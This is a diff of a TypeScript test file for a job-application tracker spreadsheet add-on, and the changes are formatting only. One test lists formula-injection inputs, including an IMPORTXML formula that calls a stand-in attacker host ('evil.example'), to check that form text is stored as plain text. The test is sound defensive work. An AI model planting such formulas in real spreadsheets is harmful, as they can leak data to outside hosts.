@@ -65,7 +65,14 @@ describe('loadTracker', () => {
     const view = loaded.addon.loadTracker();
     expect(view.now).toBe('2026-03-02 09:30');
     expect(view.timeZone).toBe('Europe/Berlin');
-    expect(view.applications[0]).toMatchObject({ id: 'app-seed0', company: 'Acme', stage: 'Wishlist', appliedOn: '2026-03-02', nextActionDue: '2026-02-27', row: 2 });
+    expect(view.applications[0]).toMatchObject({
+      id: 'app-seed0',
+      company: 'Acme',
+      stage: 'Wishlist',
+      appliedOn: '2026-03-02',
+      nextActionDue: '2026-02-27',
+      row: 2,
+    });
     expect(view.summary.overdue.map((a) => a.id)).toEqual(['app-seed0', 'app-seed9']);
     expect(view.summary.upcoming.map((r) => [r.eventId, r.start])).toEqual([['evt-seed5', '2026-03-02 10:00']]);
     expect(JSON.parse(JSON.stringify(view))).toEqual(view);
@@ -85,7 +92,12 @@ describe('loadTracker', () => {
     const sheet = loaded.spreadsheet.getSheetByName('Interviews')!;
     const at = (row: number, key: string) => sheet.cellAt(row, col(INTERVIEWS, key) + 1);
     // The person made these cells plain text, so what they typed stays text.
-    for (const [row, key] of [[2, 'start'], [2, 'selfRating'], [3, 'selfRating']] as const) at(row, key).format = '@';
+    for (const [row, key] of [
+      [2, 'start'],
+      [2, 'selfRating'],
+      [3, 'selfRating'],
+    ] as const)
+      at(row, key).format = '@';
     writeAsPerson(sheet, 2, col(INTERVIEWS, 'start') + 1, '2026-03-05T10:00');
     writeAsPerson(sheet, 2, col(INTERVIEWS, 'selfRating') + 1, ' 4 ');
     writeAsPerson(sheet, 3, col(INTERVIEWS, 'selfRating') + 1, 'four');
@@ -142,13 +154,7 @@ describe('saving forms', () => {
     expect(loaded.documentLock.acquired).toBe(locksBefore);
   });
 
-  it.each([
-    ['=IMPORTXML("https://evil.example","//a")'],
-    ['+1'],
-    ['-5'],
-    ['@SUM(A1)'],
-    ['=1+1'],
-  ])('stores form text %s as text, never a formula', (text) => {
+  it.each([['=IMPORTXML("https://evil.example","//a")'], ['+1'], ['-5'], ['@SUM(A1)'], ['=1+1']])('stores form text %s as text, never a formula', (text) => {
     const loaded = tracker();
     // The person reformatted the Company column as a number: the save still writes text.
     const sheet = loaded.spreadsheet.getSheetByName('Applications')!;
@@ -187,7 +193,7 @@ describe('saving forms', () => {
     expect(sheet.peekValues().filter((line) => line[0] === 'app-seed4')).toHaveLength(1);
   });
 
-  it('keeps the calendar\'s cells when the person edits a synced interview', () => {
+  it("keeps the calendar's cells when the person edits a synced interview", () => {
     const loaded = tracker(0, 3);
     const round = loaded.addon.loadTracker().interviews[1]!;
     const saved = loaded.addon.saveInterview({ ...round, start: '2030-01-01 10:00', end: '2030-01-01 11:00', title: 'Renamed', notes: 'Bring laptop' });
